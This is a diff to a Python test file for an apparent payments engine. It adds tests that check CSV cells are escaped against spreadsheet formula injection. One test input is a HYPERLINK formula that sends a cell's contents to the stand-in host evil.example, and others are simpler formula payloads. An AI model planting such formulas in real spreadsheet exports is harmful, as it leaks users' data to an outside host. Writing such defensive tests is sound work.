@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from hypothesis import given
@@ -15,6 +16,7 @@ from engine.errors import NotAllowed
 from tests.worlds import Place
 
 IBAN = "DE89370400440532013000"
+HARMLESS = re.compile(r"-|[+-][0-9.]+([,\"].*)?", re.DOTALL)  # a dash, and a number, also where another cell follows
 
 
 @pytest.fixture
@@ -78,12 +80,37 @@ def test_a_payout_is_said_to_be_payable_exactly_when_it_may_be_marked_paid(shop)
     assert [told[each] for each in made[4:7]] == ["no: It is Draft.", "no: It is Pending.", "yes"]
 
 
-@given(st.text(max_size=20))
-def test_no_cell_begins_like_a_formula_but_a_number(text):
-    cell = quoted(text)
+@given(st.lists(st.text(st.sampled_from("=+-@＝＋－＠,;|:\t\r\n \"'a1.("), max_size=12), min_size=1, max_size=3))
+def test_no_cell_is_a_formula_whatever_separator_its_reader_takes(texts):
+    text = io.StringIO(newline="")
+    csv.writer(text).writerow([quoted(each) for each in texts])
+    cells = {
+        cell.strip().strip('" ') for separator in ",;|:\t "
+        for row in csv.reader(io.StringIO(text.getvalue(), newline=""), delimiter=separator) for cell in row
+    }  # fmt: skip
 
-    assert not cell.startswith(FORMULA) or float(cell) == float(text)
-    assert cell in (text, f"'{text}")
+    assert {each for each in cells if each.startswith(FORMULA) and not HARMLESS.fullmatch(each)} == set()
+
+
+@given(st.text(max_size=20))
+def test_what_is_added_to_a_cell_is_apostrophes(text):
+    assert quoted(text).replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ('Lumen;=HYPERLINK("http://evil.example/?"&A1);x', 'Lumen;\'=HYPERLINK("http://evil.example/?"&A1);x'),
+        ("＝1+1", "'＝1+1"),
+        ('Lumen; "=1+1"', 'Lumen; "\'=1+1"'),
+        ("Lumen\n@SUM(A1)", "Lumen\n'@SUM(A1)"),
+        ("Lumen =1+1", "Lumen '=1+1"),
+        *((same, same) for same in ("-12.50", IBAN, "DE89 3704 0044", "Müller-Söhne, Köln & Co. - Nord", "C++ \"A+B\"",
+                                    "nord@example.com", "2026-11-02", "Tel. +49 30", "O'Neil", "ACME-NORD-00001")),
+    ],
+)  # fmt: skip
+def test_a_cell_reads_as_it_was_written_but_for_formulas(written, kept):
+    assert quoted(written) == kept
 
 
 def test_who_only_looks_is_given_no_accounts(shop):
